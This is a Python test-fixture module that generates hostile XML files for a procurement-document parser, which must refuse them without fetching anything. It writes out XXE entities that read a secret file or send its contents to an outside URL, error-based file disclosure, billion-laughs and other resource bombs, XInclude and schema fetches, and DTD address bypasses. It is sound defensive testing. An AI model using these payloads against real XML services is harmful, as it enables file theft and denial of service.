"""Hostile XML files, made by code: each must end in a clear refusal, and none may make us read or fetch anything."""

from __future__ import annotations

import gzip
import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

Make = Callable[[], bytes]

UBL = "urn:oasis:names:specification:ubl:schema:xsd:"
ORDER_NAMESPACES = (
    f'xmlns="{UBL}Order-2" xmlns:cac="{UBL}CommonAggregateComponents-2" xmlns:cbc="{UBL}CommonBasicComponents-2" '
    f'xmlns:ext="{UBL}CommonExtensionComponents-2"'
)
PARTY = "<cac:Party><cac:PartyName><cbc:Name>{}</cbc:Name></cac:PartyName></cac:Party>"
SBDH = "http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader"
DTD = "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd"
CXML_DOCTYPE = f'<!DOCTYPE cXML SYSTEM "{DTD}">'


@dataclass(frozen=True)
class Targets:
    """What an attack tries to reach: a secret file, a pipe that blocks whoever opens it, and a web server."""

    file: str
    pipe: str
    url: str


def order(*, text: str = "as agreed", extra: str = "", attributes: str = "", extension: str = "") -> str:
    """A UBL order; ``text`` stands in its note, ``extra`` at its end, ``extension`` in its extensions."""
    extensions = (
        f"<ext:UBLExtensions><ext:UBLExtension><ext:ExtensionContent>{extension}</ext:ExtensionContent>"
        "</ext:UBLExtension></ext:UBLExtensions>"
        if extension
        else ""
    )
    return (
        f"<Order {ORDER_NAMESPACES} {attributes}>{extensions}<cbc:ID>PO-1</cbc:ID>"
        "<cbc:IssueDate>2026-03-02</cbc:IssueDate>"
        f"<cbc:Note>{text}</cbc:Note>"
        f"<cac:BuyerCustomerParty>{PARTY.format('Harbor Retail')}</cac:BuyerCustomerParty>"
        f"<cac:SellerSupplierParty>{PARTY.format('Alpine Supply')}</cac:SellerSupplierParty>"
        '<cac:OrderLine><cac:LineItem><cbc:ID>1</cbc:ID><cbc:Quantity unitCode="EA">1</cbc:Quantity>'
        f"<cac:Item><cbc:Name>Kettle</cbc:Name></cac:Item></cac:LineItem></cac:OrderLine>{extra}</Order>"
    )


def cxml(*, text: str = "as agreed", extra: str = "", attributes: str = "") -> str:
    """A cXML profile request; ``text`` stands in its user agent, ``extra`` at its end."""

    def party(name: str, secret: str = "") -> str:
        return f'<Credential domain="DUNS"><Identity>{name}</Identity>{secret}</Credential>'

    return (
        f'<cXML payloadID="1@example" timestamp="2026-03-02T10:00:00+00:00" {attributes}>'
        f"<Header><From>{party('1')}</From>"
        f"<To>{party('2')}</To><Sender>{party('1', '<SharedSecret>open sesame</SharedSecret>')}"
        f"<UserAgent>{text}</UserAgent></Sender></Header><Request><ProfileRequest/></Request>{extra}</cXML>"
    )


def sbdh(*, text: str = "as agreed", extra: str = "", attributes: str = "") -> str:
    """An order in a StandardBusinessDocument."""
    return (
        f'<sh:StandardBusinessDocument xmlns:sh="{SBDH}"><sh:StandardBusinessDocumentHeader>'
        "<sh:HeaderVersion>1.0</sh:HeaderVersion></sh:StandardBusinessDocumentHeader>"
        f"{order(text=text, extra=extra, attributes=attributes)}</sh:StandardBusinessDocument>"
    )


WRAPPERS: dict[str, tuple[str, Callable[..., str]]] = {
    "ubl": ("Order", order),
    "cxml": ("cXML", cxml),
    "sbdh": ("sh:StandardBusinessDocument", sbdh),
}


def attributes(count: int) -> str:
    """So many attributes with different names."""
    return " ".join(f'a{number}=""' for number in range(count))


_PARAMETER = '<!ENTITY % {} SYSTEM "{}"> %{};'


def doctypes(to: Targets) -> dict[str, tuple[str, str]]:
    """Name → (DOCTYPE with {root} for the name of the root element, text that uses what it defines)."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "bare": ("<!DOCTYPE {root}>", ""),
        "empty subset": ("<!DOCTYPE {root} []>", ""),
        "entity on a file": (f'<!DOCTYPE {{root}} [<!ENTITY x SYSTEM "file://{to.file}">]>', "&x;"),
        "entity on a path": (f'<!DOCTYPE {{root}} [<!ENTITY x SYSTEM "{to.file}">]>', "&x;"),
        "entity on a pipe": (f'<!DOCTYPE {{root}} [<!ENTITY x SYSTEM "file://{to.pipe}">]>', "&x;"),
        "entity over http": (f'<!DOCTYPE {{root}} [<!ENTITY x SYSTEM "{to.url}/entity">]>', "&x;"),
        "entity over ftp": (f'<!DOCTYPE {{root}} [<!ENTITY x SYSTEM "{to.url.replace("http", "ftp")}/x">]>', "&x;"),
        "public entity": (f'<!DOCTYPE {{root}} [<!ENTITY x PUBLIC "-//x" "{to.url}/public">]>', "&x;"),
        "entity through a filter": (
            f'<!DOCTYPE {{root}} [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource={to.file}">]>',
            "&x;",
        ),
        "entity in data": ('<!DOCTYPE {root} [<!ENTITY x SYSTEM "data:text/plain,hello">]>', "&x;"),
        "parameter entity over http": (f"<!DOCTYPE {{root}} [{_PARAMETER.format('p', to.url + '/p.dtd', 'p')}]>", ""),
        "parameter entity on a file": (f"<!DOCTYPE {{root}} [{_PARAMETER.format('p', to.file, 'p')}]>", ""),
        "parameter entity on a pipe": (f"<!DOCTYPE {{root}} [{_PARAMETER.format('p', to.pipe, 'p')}]>", ""),
        "carrying a file away": (
            f'<!DOCTYPE {{root}} [<!ENTITY % f SYSTEM "file://{to.file}"><!ENTITY % all "<!ENTITY &#37; send SYSTEM '
            f"'{to.url}/?%f;'>\">%all;%send;]>",
            "",
        ),
        "error that shows a file": (
            f'<!DOCTYPE {{root}} [<!ENTITY % f SYSTEM "file://{to.file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
            "'file:///nowhere/%f;'>\">%e;%s;]>",
            "",
        ),
        "external subset over http": (f'<!DOCTYPE {{root}} SYSTEM "{to.url}/external.dtd">', "&x;"),
        "external subset on a file": (f'<!DOCTYPE {{root}} SYSTEM "file://{to.file}">', ""),
        "external subset on a pipe": (f'<!DOCTYPE {{root}} SYSTEM "{to.pipe}">', ""),
        "public external subset": (f'<!DOCTYPE {{root}} PUBLIC "-//W3C//DTD" "{to.url}/public.dtd">', ""),
        "billion laughs": (f'<!DOCTYPE {{root}} [<!ENTITY l0 "ha">{laughs}]>', "&l9;"),
        "quadratic blow-up": (f'<!DOCTYPE {{root}} [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000),
        "parameter laughs": (
            '<!DOCTYPE {root} [<!ENTITY % a "<!ENTITY x \'y\'>"><!ENTITY % b "%a;%a;%a;">%b;]>',
            "&x;",
        ),
        "entity of itself": ('<!DOCTYPE {root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "harmless entity": ('<!DOCTYPE {root} [<!ENTITY company "Alpine">]>', "&company;"),
        "entity with markup": ('<!DOCTYPE {root} [<!ENTITY m "<evil/>">]>', "&m;"),
        "entity instead of amp": ('<!DOCTYPE {root} [<!ENTITY amp "&#38;#60;evil/>">]>', "&amp;"),
        "attribute default": ('<!DOCTYPE {root} [<!ATTLIST {root} evil CDATA "yes">]>', ""),
        "namespace default": (f'<!DOCTYPE {{root}} [<!ATTLIST {{root}} xmlns CDATA "{UBL}Invoice-2">]>', ""),
        "element declaration": ("<!DOCTYPE {root} [<!ELEMENT {root} ANY>]>", ""),
        "notation": (f'<!DOCTYPE {{root}} [<!NOTATION n SYSTEM "{to.url}/n"><!ENTITY u SYSTEM "x" NDATA n>]>', ""),
        "comment in the subset": ("<!DOCTYPE {root} [<!-- nothing -->]>", ""),
        "instruction in the subset": ("<!DOCTYPE {root} [<?nothing here?>]>", ""),
        "undefined parameter entity": ("<!DOCTYPE {root} [%nothing;]>", ""),
        "in lower case": ('<!doctype {root} [<!ENTITY x "y">]>', "&x;"),
        "in mixed case": ('<!DocType {root} [<!ENTITY x "y">]>', "&x;"),
        "over several lines": ('<!DOCTYPE\n\t{root}\r\n[\n<!ENTITY x "y">\n]\n>', "&x;"),
        "behind a comment": ('<!-- > <!-- --><!DOCTYPE {root} [<!ENTITY x "y">]>', "&x;"),
        "behind comments and blanks": ('<!---->\n\n<?a?>\t<!-- b -->  <!DOCTYPE {root} [<!ENTITY x "y">]>', "&x;"),
        "twice": ("<!DOCTYPE {root}><!DOCTYPE {root}>", ""),
        "unclosed": ("<!DOCTYPE {root} [", ""),
        "without a name": ("<!DOCTYPE>", ""),
    }


def look_alikes(to: Targets) -> dict[str, str]:
    """DOCTYPEs that look like the permitted one of cXML."""
    netloc = to.url.removeprefix("http://")
    addresses = {
        "another host": f"{to.url}/schemas/cXML/1.2.063/cXML.dtd",
        "host as a user": f"http://xml.cxml.org@{netloc}/schemas/cXML/1.2.063/cXML.dtd",
        "longer host": "http://xml.cxml.org.example/schemas/cXML/1.2.063/cXML.dtd",
        "host without dots": "http://xmlXcxmlXorg/schemas/cXML/1.2.063/cXML.dtd",
        "way out": "http://xml.cxml.org/schemas/cXML/../../evil.dtd",
        "way out behind the version": "http://xml.cxml.org/schemas/cXML/1.2.063/../../evil.dtd",
        "query": f"{DTD}?{to.url}",
        "fragment": f"{DTD}#x",
        "another scheme": DTD.replace("http", "ftp"),
        "a file": f"file://{to.file}",
        "a relative file": "cXML.dtd",
        "blank before": f" {DTD}",
        "line end behind": f"{DTD}\n",
        "percent": DTD.replace("cXML.dtd", "%63XML.dtd"),
        "no address": "",
        "not a DTD": DTD.replace(".dtd", ".xml"),
    }
    made = {f"cXML DOCTYPE: {name}": f'<!DOCTYPE cXML SYSTEM "{address}">' for name, address in addresses.items()}
    made["cXML DOCTYPE: internal subset"] = f'<!DOCTYPE cXML SYSTEM "{DTD}" [<!ENTITY x "y">]>'
    made["cXML DOCTYPE: empty subset"] = f'<!DOCTYPE cXML SYSTEM "{DTD}" []>'
    made["cXML DOCTYPE: entity over http"] = f'<!DOCTYPE cXML SYSTEM "{DTD}" [<!ENTITY % p SYSTEM "{to.url}/p">%p;]>'
    made["cXML DOCTYPE: public"] = f'<!DOCTYPE cXML PUBLIC "-//cXML" "{DTD}">'
    made["cXML DOCTYPE: upper case name"] = f'<!DOCTYPE CXML SYSTEM "{DTD}">'
    made["cXML DOCTYPE: lower case keyword"] = f'<!DOCTYPE cXML system "{DTD}">'
    made["cXML DOCTYPE: twice"] = CXML_DOCTYPE * 2
    made["cXML DOCTYPE: unquoted"] = f"<!DOCTYPE cXML SYSTEM {DTD}>"
    return made


def fragments(to: Targets) -> dict[str, tuple[str, str, str]]:
    """Name → (attributes of the root, text, elements at the end) that no document may have."""
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    return {
        "XInclude of a file": ("", "", f'<xi:include {include} href="file://{to.file}" parse="text"/>'),
        "XInclude over http": ("", "", f'<xi:include {include} href="{to.url}/include"/>'),
        "XInclude of a pipe": ("", "", f'<xi:include {include} href="{to.pipe}" parse="text"/>'),
        "XInclude with a fallback": (
            "",
            "",
            f'<xi:include {include} href="nothing"><xi:fallback>'
            f'<xi:include href="{to.file}" parse="text"/></xi:fallback></xi:include>',
        ),
        "XInclude 2003 in text": (
            "",
            f'<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="{to.file}"/>',
            "",
        ),
        "schema over http": (f'{instance} xsi:schemaLocation="urn:x {to.url}/evil.xsd"', "", "<evil/>"),
        "schema without namespace over http": (
            f'{instance} xsi:noNamespaceSchemaLocation="{to.url}/evil.xsd"',
            "",
            "<evil/>",
        ),
        "schema on a pipe": (f'{instance} xsi:schemaLocation="{UBL}Order-2 {to.pipe}"', "", "<evil/>"),
        "another type": (f'{instance} xsi:type="evil"', "", "<evil/>"),
        "nothing at all": (f'{instance} xsi:nil="true"', "", "<evil/>"),
        "an embedded stylesheet": (
            "",
            "",
            '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            f'<xsl:template match="/"><xsl:copy-of select="document(\'{to.url}/document\')"/>'
            "</xsl:template></xsl:stylesheet>",
        ),
        "an embedded schema": (
            "",
            "",
            '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
            f'<xs:import schemaLocation="{to.url}/import.xsd"/></xs:schema>',
        ),
        "another base": (f'xml:base="{to.url}/"', "", f'<xi:include {include} href="relative"/>'),
        "unknown entity": ("", "&evil;", ""),
        "unknown entity in an attribute": ('evil="&evil;"', "", ""),
        "unescaped ampersand": ("", "Smith & Sons", ""),
        "unescaped less-than": ("", "1 < 2", ""),
        "character 0": ("", "&#0;", ""),
        "character 31": ("", "&#x1f;", ""),
        "character FFFF": ("", "&#xFFFF;", ""),
        "surrogate": ("", "&#xD800;", ""),
        "character beyond Unicode": ("", "&#x110000;", ""),
        "endless character": ("", f"&#{'9' * 4_000};", ""),
        "control character": ("", "\x01", ""),
        "NUL": ("", "\x00", ""),
        "end of CDATA in text": ("", "]]>", ""),
        "unclosed CDATA": ("", "<![CDATA[", ""),
        "unclosed comment": ("", "<!--", ""),
        "comment with two hyphens": ("", "<!-- a -- b -->", ""),
        "declaration in the middle": ("", '<?xml version="1.0"?>', ""),
        "duplicate attribute": ('evil="1" evil="2"', "", ""),
        "duplicate attribute by namespace": ('xmlns:a="urn:x" xmlns:b="urn:x" a:e="1" b:e="2"', "", ""),
        "undeclared prefix": ("", "", "<evil:element/>"),
        "undeclared prefix of an attribute": ('evil:attribute="1"', "", ""),
        "prefix without namespace": ('xmlns:evil=""', "", ""),
        "prefix xml elsewhere": ('xmlns:xml="urn:evil"', "", ""),
        "prefix xmlns": ('xmlns:xmlns="urn:evil"', "", ""),
        "two colons": ("", "", "<a:b:c xmlns:a='urn:x'/>"),
        "unquoted attribute": ("evil=1", "", ""),
        "attribute without value": ("evil", "", ""),
        "less-than in an attribute": ('evil="<"', "", ""),
        "name beginning with a digit": ("", "", "<1/>"),
        "tag without a name": ("", "", "< />"),
        "wrong nesting": ("", "", "<a><b></a></b>"),
        "closing tag too many": ("", "</b>", ""),
        "DOCTYPE in the middle": ("", "", '<!DOCTYPE x [<!ENTITY x "y">]>'),
        "ENTITY in the middle": ("", "", '<!ENTITY x "y">'),
        "300 levels": ("", "", "<a>" * 300 + "</a>" * 300),
        "300 attributes": (attributes(300), "", ""),
        "300 namespaces": (" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(300)), "", ""),
        "300 attributes inside": ("", "", f"<a {attributes(300)}/>"),
        "long name": ("", "", f"<{'n' * 60_000}/>"),
    }


def wrapped(to: Targets) -> Iterator[tuple[str, Make]]:
    """Every DOCTYPE and fragment in every wrapper."""
    for wrapper, (root, write) in WRAPPERS.items():
        for name, (doctype, text) in doctypes(to).items():
            body = doctype.replace("{root}", root) + write(text=text)
            yield f"{wrapper}: DOCTYPE {name}", _text('<?xml version="1.0"?>' + body)
        for name, (within, text, extra) in fragments(to).items():
            yield f"{wrapper}: {name}", _text(write(attributes=within, text=text, extra=extra))
    for name, doctype in look_alikes(to).items():
        yield name, _text(doctype + cxml())
    yield "cXML DOCTYPE on an order", _text(CXML_DOCTYPE + order())
    yield "cXML DOCTYPE on another cXML", _text(CXML_DOCTYPE + '<cXML xmlns="urn:x"/>')
    yield "cXML DOCTYPE and an entity", _text(CXML_DOCTYPE + cxml(text="&nbsp;"))
    yield "cXML DOCTYPE and an entity in an attribute", _text(CXML_DOCTYPE + cxml(attributes='a="&nbsp;"'))
    xxe = doctypes(to)["entity on a file"][0].replace("{root}", "Order") + order(text="&x;")
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "utf-8-sig"):
        yield f"entity on a file in {codec}", _coded(f'<?xml version="1.0"?>{xxe}', codec)


def _made(make: Callable[[], str]) -> Make:
    return lambda: make().encode()


def _text(text: str) -> Make:
    return lambda: text.encode()


def _coded(text: str, codec: str) -> Make:
    return lambda: text.encode(codec)


def _bytes(data: bytes) -> Make:
    return lambda: data


_ANY_DECLARED = '<?xml version="1.0" encoding="{}"?>'


def encodings(_to: Targets) -> Iterator[tuple[str, Make]]:
    """Files that are not in the encoding that they name, or in none that is read."""
    whole = order(text="Größe 7")
    plain = order()
    for named, codec in {
        "utf-7": "utf-7",
        "utf-32": "utf-32",
        "shift_jis": "ascii",
        "big5": "ascii",
        "gb18030": "ascii",
        "euc-jp": "ascii",
        "iso-2022-jp": "ascii",
        "koi8-r": "ascii",
        "iso-8859-15": "ascii",
        "ibm037": "cp037",
        "cp500": "cp500",
        "ucs-4": "ascii",
        "utf-16": "ascii",
        "hexencoding": "ascii",
        "evil": "ascii",
        "u" * 2_000: "ascii",
        "": "ascii",
        "utf 8": "ascii",
        "utf-8\x00": "ascii",
        "HTML": "ascii",
    }.items():
        yield f"encoding {named[:20]!r} as {codec}", _coded(_ANY_DECLARED.format(named) + plain, codec)
    yield (
        "UTF-7 hiding an element",
        _bytes(_ANY_DECLARED.format("utf-7").encode() + plain.encode().replace(b"as agreed", b"+ADw-evil/+AD4-")),
    )
    yield "UTF-7 mark", _bytes(b"+/v8-" + plain.encode())
    yield "UTF-8 that is Latin-1", _coded(_ANY_DECLARED.format("UTF-8") + whole, "latin-1")
    yield "no name and Latin-1", _coded(whole, "latin-1")
    yield "ASCII that is UTF-8", _coded(_ANY_DECLARED.format("US-ASCII") + whole, "utf-8")
    yield "UTF-16 that is UTF-8", _coded(_ANY_DECLARED.format("UTF-16") + whole, "utf-8")
    yield "UTF-8 that is UTF-16", _coded(_ANY_DECLARED.format("UTF-8") + whole, "utf-16")
    yield "Latin-1 behind a UTF-8 mark", _coded(_ANY_DECLARED.format("ISO-8859-1") + whole, "utf-8-sig")
    yield "UTF-16 without mark and name", _coded(plain, "utf-16-le")
    yield "UTF-16 without mark and name, big end first", _coded(plain, "utf-16-be")
    yield "UTF-16 with the other mark", _bytes(b"\xfe\xff" + plain.encode("utf-16-le"))
    yield "UTF-16 with the other mark, big end first", _bytes(b"\xff\xfe" + plain.encode("utf-16-be"))
    yield "UTF-16 cut in a character", lambda: plain.encode("utf-16")[:-1]
    yield (
        "UTF-16 with half a pair",
        lambda: b"\xff\xfe" + plain.replace("as", "\ud800").encode("utf-16-le", "surrogatepass"),
    )
    yield "UTF-32 without a mark", _coded(plain, "utf-32-le")
    yield "UTF-32 without a mark, big end first", _coded(plain, "utf-32-be")
    for name, raw in {
        "overlong less-than": b"\xc0\xbc",
        "overlong slash": b"\xe0\x80\xaf",
        "encoded surrogate": b"\xed\xa0\x80",
        "five bytes": b"\xf8\x88\x80\x80\x80",
        "beyond Unicode": b"\xf4\x90\x80\x80",
        "lone continuation": b"\x80",
        "cut sequence": b"\xe2\x82",
        "byte FE": b"\xfe",
    }.items():
        yield f"UTF-8 with {name}", _bytes(plain.encode().replace(b"as agreed", raw))
    yield "mark behind the declaration", _text(_ANY_DECLARED.format("UTF-8") + "\ufeff" + plain)
    yield "two marks", _bytes(b"\xef\xbb\xbf" * 2 + plain.encode())
    yield "half a mark", _bytes(b"\xef\xbb" + plain.encode())


def damaged(_to: Targets) -> Iterator[tuple[str, Make]]:
    """Files that are cut off, doubled, or spoilt."""
    for root, write in (("Order", order), ("cXML", cxml)):
        whole = write().encode()
        for part in (1, 5, 10, 20, 30, 40, 50, 60, 70, 80, 90, 95, 99):
            yield f"{root} cut at {part} %", _bytes(whole[: max(2, len(whole) * part // 100)])
        yield f"{root} twice", _bytes(whole * 2)
        yield f"{root} with something behind", _bytes(whole + b"evil")
        yield f"{root} with NULs behind", _bytes(whole + b"\0\0\0")
        yield f"{root} with something before", _bytes(b"evil" + whole)
        yield f"{root} with a NUL before", _bytes(b"\0" + whole)
        yield f"{root} with a line before the declaration", _bytes(b'\n<?xml version="1.0"?>' + whole)
        yield f"{root} with two declarations", _bytes(b'<?xml version="1.0"?>' * 2 + whole)
        yield f"{root} as XML 9.9", _bytes(b'<?xml version="9.9"?>' + whole)
        yield f"{root} without a version", _bytes(b'<?xml encoding="UTF-8"?>' + whole)
        yield f"{root} with a damaged declaration", _bytes(b'<?xml version="1.0" standalone="maybe so"?>' + whole)
        yield f"{root} with an upper case declaration", _bytes(b'<?XML version="1.0"?>' + whole)
        yield f"{root} with an unclosed declaration", _bytes(b'<?xml version="1.0"' + whole)
        chance = random.Random(root)
        for number in range(12):
            spoilt = bytearray(whole)
            for _ in range(number + 3):
                spoilt[chance.randrange(len(spoilt))] = chance.randrange(32)
            yield f"{root} spoilt {number}", _bytes(bytes(spoilt))


def strangers(to: Targets) -> Iterator[tuple[str, Make]]:
    """Files that are no business document at all."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as folder:
        folder.writestr("order.xml", order())
    page = "<html><head><title>502</title></head><body><h1>Bad Gateway</h1><br></body></html>"
    namespace = "http://www.w3.org/{}"
    files: dict[str, bytes | str] = {
        "nothing": b"",
        "blanks": b" \r\n\t",
        "NULs": b"\0" * 100,
        "gzip": gzip.compress(order().encode()),
        "zlib": zlib.compress(order().encode()),
        "zip": archive.getvalue(),
        "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj",
        "picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
        "program": b"\x7fELF\x02\x01\x01" + bytes(200),
        "chance": random.Random(1).randbytes(5_000),
        "JSON": '{"order": {"id": "PO-1", "lines": []}}',
        "CSV": "id;item;quantity\n1;Kettle;2\n",
        "web page": page,
        "web page with DOCTYPE": "<!DOCTYPE html>\n" + page,
        "old web page": '<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">' + page,
        "XHTML page": f'<?xml version="1.0"?><html xmlns="{namespace.format("1999/xhtml")}"><body/></html>',
        "error text": "<error>no route to host</error>",
        "SOAP": '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><a/></s:Body></s:Envelope>',
        "stylesheet": f'<xsl:stylesheet version="1.0" xmlns:xsl="{namespace.format("1999/XSL/Transform")}">'
        f'<xsl:include href="{to.url}/include.xsl"/><xsl:import href="file://{to.file}"/></xsl:stylesheet>',
        "schema": f'<xs:schema xmlns:xs="{namespace.format("2001/XMLSchema")}">'
        f'<xs:import schemaLocation="{to.url}/x.xsd"/></xs:schema>',
        "picture with a script": f'<svg xmlns="{namespace.format("2000/svg")}"><image href="{to.url}/x.png"/></svg>',
        "feed": "<rss version='2.0'><channel/></rss>",
        "catalogue": f'<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog">'
        f'<system systemId="x" uri="{to.url}"/></catalog>',
        "order of an unknown release": order().replace("Order-2", "Order-3"),
        "UBL of an unknown name": order().replace("<Order", "<Odrer").replace("</Order", "</Odrer"),
        "order without a namespace": "<Order><ID>1</ID></Order>",
        "part of UBL alone": f'<cbc:ID xmlns:cbc="{UBL}CommonBasicComponents-2">1</cbc:ID>',
        "empty order": f'<Order xmlns="{UBL}Order-2"/>',
        "cXML with nothing in it": "<cXML/>",
        "cXML in a namespace": '<cXML xmlns="http://evil.example"/>',
        "cXML in lower case": cxml().replace("cXML", "cxml"),
        "cXML of an unknown request": cxml().replace("ProfileRequest", "EvilRequest"),
        "SBDH with nothing behind": f'<StandardBusinessDocument xmlns="{SBDH}"/>',
        "SBDH in itself": f'<StandardBusinessDocument xmlns="{SBDH}">' * 100 + "</StandardBusinessDocument>" * 100,
        "SBDH with bytes": f'<StandardBusinessDocument xmlns="{SBDH}">'
        '<b xmlns="urn:x">PD94bWw+</b></StandardBusinessDocument>',
        "base64": "PD94bWwgdmVyc2lvbj0iMS4wIj8+",
        "mail": "From: a@example\nTo: b@example\n\n" + order(),
        "comment only": "<!-- evil -->",
        "instruction only": '<?xml-stylesheet href="x"?>',
        "DOCTYPE only": CXML_DOCTYPE,
        "declaration only": '<?xml version="1.0"?>',
        "less-than": "<",
        "less-thans": "<" * 5_000,
    }
    for name, data in files.items():
        yield name, _bytes(data.encode() if isinstance(data, str) else data)


def floods(_to: Targets) -> Iterator[tuple[str, Make]]:
    """Files that are large in one way or another."""
    million = 1_000_000
    for wrapper, (_, write) in WRAPPERS.items():

        def inside(make: Callable[[], str], write: Callable[..., str] = write, field: str = "extra") -> Make:
            return lambda: write(**{field: make()}).encode()

        yield f"{wrapper}: 100,000 levels", inside(lambda: "<a>" * 100_000)
        yield f"{wrapper}: text of 11 MB", inside(lambda: "x" * 11 * million, field="text")
        yield f"{wrapper}: attribute of 11 MB", inside(lambda: f'evil="{"x" * 11 * million}"', field="attributes")
        yield f"{wrapper}: a million elements", inside(lambda: "<a/>" * million)
        yield f"{wrapper}: 200,000 attributes", inside(lambda: attributes(200_000), field="attributes")
        yield f"{wrapper}: 100,000 unknown elements", inside(lambda: "<evil>x</evil>" * 100_000)
    files: dict[str, Callable[[], str]] = {
        "comment of 11 MB": lambda: order(extra=f"<!--{'x' * 11 * million}-->"),
        "instruction of 11 MB": lambda: order(extra=f"<?x {'x' * 11 * million}?>"),
        "CDATA of 11 MB": lambda: order(text=f"<![CDATA[{'x' * 11 * million}]]>"),
        "namespace of 11 MB": lambda: order(attributes=f'xmlns:a="{"x" * 11 * million}"'),
        "name of 11 MB": lambda: f"<{'x' * 11 * million}/>",
        "three million elements": lambda: f"<a>{'<b/>' * 3 * million}</a>",
        "a million comments": lambda: order(extra="<!---->" * million),
        "a million instructions": lambda: order(extra="<?a?>" * million),
        "a million CDATA sections": lambda: order(text="<![CDATA[x]]>" * million),
        "a million texts": lambda: f"<a>{'<b/>text' * million}</a>",
        "400,000 elements with two attributes": lambda: "<a>" + '<b c="d" e="f"/>' * 400_000 + "</a>",
        "400,000 namespaces": lambda: "<a>" + "".join(f'<n{n}:b xmlns:n{n}="u{n}"/>' for n in range(400_000)) + "</a>",
        "700,000 long names": lambda: "<a>" + "".join(f"<n{n}{'x' * 50}/>" for n in range(700_000)) + "</a>",
        "100,000 names": lambda: "<a>" + "".join(f"<n{n}/>" for n in range(100_000)) + "</a>",
        "8 million references": lambda: f"<a>{'&amp;' * 8 * million}</a>",
        "5 million unknown references": lambda: f"<a>{'&evil;' * 5 * million}</a>",
        "text of 51 MiB": lambda: f"<a>{('x' * 1023 + ' ') * 51 * 1024}</a>",
        "20,000 wrong lines": lambda: order(extra="<cac:OrderLine><cbc:Evil/></cac:OrderLine>" * 20_000),
        "20,000 wrong quantities": lambda: order(
            extra='<cac:OrderLine><cac:LineItem><cbc:ID>1</cbc:ID><cbc:Quantity unitCode="EA">ten</cbc:Quantity>'
            "<cac:Item/></cac:LineItem></cac:OrderLine>" * 20_000
        ),
        "2,000 orders in one element": lambda: f"<orders>{order() * 2_000}</orders>",
        "2,000 orders behind one SBDH": lambda: (
            f'<a:StandardBusinessDocument xmlns:a="{SBDH}">{order() * 2_000}</a:StandardBusinessDocument>'
        ),
        "a million blanks before": lambda: (
            "<?xml version='1.0'?>" + " " * million + "<!DOCTYPE a [<!ENTITY x 'y'>]><a/>"
        ),
        "100,000 comments before a DOCTYPE": lambda: "<!---->" * 100_000 + "<!DOCTYPE a [<!ENTITY x 'y'>]><a/>",
        "10,000 secrets": lambda: cxml(extra="<SharedSecret><![CDATA[" * 10_000),
    }
    for name, make in files.items():
        yield name, _made(make)
    yield "UTF-16 of 40 MB", lambda: ("<a>" + "<b>\u4e00</b>" * 2_500_000 + "</a>").encode("utf-16")


def hostile(to: Targets) -> Iterator[tuple[str, Make]]:
    """Name → maker of every file that must be refused."""
    for family in (wrapped, encodings, damaged, strangers, floods):
        yield from family(to)


def harmless(to: Targets) -> Iterator[tuple[str, Make]]:
    """Documents that are right and name things which must never be looked up."""
    instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    place = f'{instance} xsi:schemaLocation="{UBL}Order-2 {to.url}/UBL-Order-2.1.xsd"'
    yield "schemaLocation", _text(order(attributes=place))
    yield "schemaLocation on a pipe", _text(order(attributes=place.replace(to.url, to.pipe)))
    yield "stylesheet over http", _text(f'<?xml-stylesheet type="text/xsl" href="{to.url}/x.xsl"?>' + order())
    yield "stylesheet on a pipe", _text(f'<?xml-stylesheet type="text/xsl" href="{to.pipe}"?>' + order())
    yield "XInclude in an extension", _text(order(extension=f'<xi:include {include} href="{to.url}/x"/>'))
    yield (
        "XInclude of a pipe in an extension",
        _text(order(extension=f'<xi:include {include} href="{to.pipe}" parse="text"/>')),
    )
    yield "the DTD of cXML", _text(CXML_DOCTYPE + cxml())
    yield "addresses in text", _text(order(text=f"see {to.url}/text and file://{to.file}"))
    yield "a DOCTYPE as text", _text(order(text="&lt;!DOCTYPE x [&lt;!ENTITY y SYSTEM 'z'>]>&amp;y;"))
    yield "a DOCTYPE in CDATA", _text(order(text="<![CDATA[<!DOCTYPE x [<!ENTITY y 'z'>]>&y;]]>"))
    yield "a DOCTYPE in a comment", _text("<!-- <!DOCTYPE x> -->" + order())
    yield "UTF-16", _coded('<?xml version="1.0" encoding="UTF-16"?>' + order(text="Größe"), "utf-16")
    yield "a byte order mark", _coded(order(text="Größe"), "utf-8-sig")
    yield "windows-1252", _coded('<?xml version="1.0" encoding="windows-1252"?>' + order(text="5 €"), "cp1252")
    yield "XML 1.1, read as 1.0", _text('<?xml version="1.1"?>' + order())
